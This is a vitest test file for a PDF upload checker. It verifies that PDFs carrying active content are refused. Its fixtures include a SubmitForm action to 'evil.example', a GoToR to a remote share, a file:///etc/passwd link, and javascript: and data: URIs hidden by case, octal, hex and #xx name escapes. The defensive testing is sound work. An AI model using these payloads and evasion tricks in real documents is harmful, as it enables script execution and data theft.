import { PDFDocument, PDFHexString, PDFName, PDFString, type PDFDict } from 'pdf-lib';
import { describe, expect, it } from 'vitest';
import { checkPdf } from '@/lib/storage/check-pdf';
import { pdf } from '../integration/support/pdfs';

type Mutate = (doc: PDFDocument) => void;

/** A link annotation on the first page, the way real PDFs carry URI and GoTo actions. */
const link =
  (a: Record<string, unknown> | ((doc: PDFDocument) => PDFDict)): Mutate =>
  (doc) => {
    const act = typeof a === 'function' ? a(doc) : doc.context.obj(a as never);
    const annot = doc.context.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 100, 20], A: act });
    doc.getPage(0).node.set(PDFName.of('Annots'), doc.context.obj([doc.context.register(annot)]));
  };
const uri = (target: PDFString | PDFHexString) => link((doc) => doc.context.obj({ S: 'URI', URI: target }));

const CASES: [string, Mutate, string | null][] = [
  [
    '/AA (additional actions) on a page',
    (doc) =>
      doc
        .getPage(0)
        .node.set(PDFName.of('AA'), doc.context.obj({ O: { S: 'URI', URI: PDFString.of('https://example.org') } })),
    'active_content',
  ],
  [
    '/XFA in the AcroForm',
    (doc) => doc.catalog.set(PDFName.of('AcroForm'), doc.context.obj({ Fields: [], XFA: PDFString.of('<xdp/>') })),
    'active_content',
  ],
  [
    'a /RichMedia annotation',
    (doc) =>
      doc
        .getPage(0)
        .node.set(
          PDFName.of('Annots'),
          doc.context.obj([doc.context.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 1, 1] })]),
        ),
    'active_content',
  ],
  [
    'a /SubmitForm action',
    link({ S: 'SubmitForm', F: PDFString.of('https://evil.example/collect') }),
    'active_content',
  ],
  ['an /ImportData action', link({ S: 'ImportData', F: PDFString.of('data.fdf') }), 'active_content'],
  ['a /GoToR action', link({ S: 'GoToR', F: PDFString.of('\\\\evil\\share\\x.pdf'), D: [0, 'Fit'] }), 'active_content'],
  ['a /GoToE action', link({ S: 'GoToE', T: { R: 'C', N: PDFString.of('x') } }), 'active_content'],
  ['a /URI javascript: link', uri(PDFString.of('javascript:app.alert(1)')), 'active_content'],
  [
    'a /URI JavaScript: link, mixed case and blanks',
    uri(PDFString.of('  Java\tScript:app.alert(1)')),
    'active_content',
  ],
  [
    'a /URI javascript: link written with octal escapes',
    uri(PDFString.of('java\\163cript:app.alert(1)')),
    'active_content',
  ],
  ['a /URI javascript: link in a hex string', uri(PDFHexString.fromText('javascript:app.alert(1)')), 'active_content'],
  [
    'a /URI javascript: link in a plain hex string',
    uri(PDFHexString.of(Buffer.from('JAVASCRIPT:app.alert(1)').toString('hex'))),
    'active_content',
  ],
  ['a /URI file: link', uri(PDFString.of('file:///etc/passwd')), 'active_content'],
  ['a /URI data: link', uri(PDFString.of('data:text/html,<script>alert(1)</script>')), 'active_content'],
  ['a plain https: link stays accepted', uri(PDFString.of('https://www.provincia.tn.it/')), null],
  ['a GoTo to its own page stays accepted', link({ S: 'GoTo', D: [0, 'Fit'] }), null],
];

const make = async (mutate: Mutate, useObjectStreams: boolean) => {
  const doc = await PDFDocument.load(await pdf({ mutate }));
  return doc.save({ useObjectStreams, updateFieldAppearances: false });
};

describe('active content beyond JavaScript is refused, in plain objects and in compressed object streams (F1)', () => {
  describe.each([
    ['plain objects', false],
    ['a compressed object stream', true],
  ])('%s', (_where, useObjectStreams) => {
    it.each(CASES)('%s', async (_case, mutate, reason) => {
      const bytes = await make(mutate, useObjectStreams);
      if (useObjectStreams) expect(new TextDecoder('latin1').decode(bytes)).toContain('/ObjStm');
      const r = await checkPdf(bytes);
      if (reason === null) expect(r).toEqual({ ok: true });
      else
        expect(r).toMatchObject({
          ok: false,
          reason,
          message: expect.stringMatching(/^Il PDF contiene contenuti attivi/),
        });
    });
  });

  it.each([
    ['/S /Sub#6ditForm', '/S /SubmitForm', link({ S: 'SubmitForm', F: PDFString.of('https://evil.example') })],
    ['/S /G#6FToR', '/S /GoToR', link({ S: 'GoToR', F: PDFString.of('x.pdf'), D: [0, 'Fit'] })],
    ['/#41A', '/AA', (doc: PDFDocument) => doc.getPage(0).node.set(PDFName.of('AA'), doc.context.obj({}))],
    ['/U#52I (javascript:', '/URI (javascript:', uri(PDFString.of('javascript:app.alert(1)'))],
  ] as const)('a name written with #xx escapes, %s, is refused too', async (escaped, plain, mutate) => {
    const text = new TextDecoder('latin1').decode(await make(mutate, false));
    expect(text).toContain(plain);
    const bytes = Uint8Array.from(text.replace(plain, escaped), (c) => c.charCodeAt(0));
    expect(await checkPdf(bytes)).toMatchObject({ ok: false, reason: 'active_content' });
  });
});

describe('the raw backstop does not look inside stream data', () => {
  it('image bytes that happen to spell /JS or /AA do not refuse the file', async () => {
    const bytes = await pdf({
      mutate: (doc) => {
        const image = doc.context.stream(Buffer.from('\xff\xd8 random /JS /AA /Launch bytes \xff\xd9', 'latin1'), {
          Type: 'XObject',
          Subtype: 'Image',
          Width: 1,
          Height: 1,
          BitsPerComponent: 8,
          ColorSpace: 'DeviceGray',
          Filter: 'DCTDecode',
        });
        doc.context.register(image);
      },
    });
    expect(new TextDecoder('latin1').decode(bytes)).toContain('/JS /AA');
    expect(await checkPdf(bytes)).toEqual({ ok: true });
  });
});
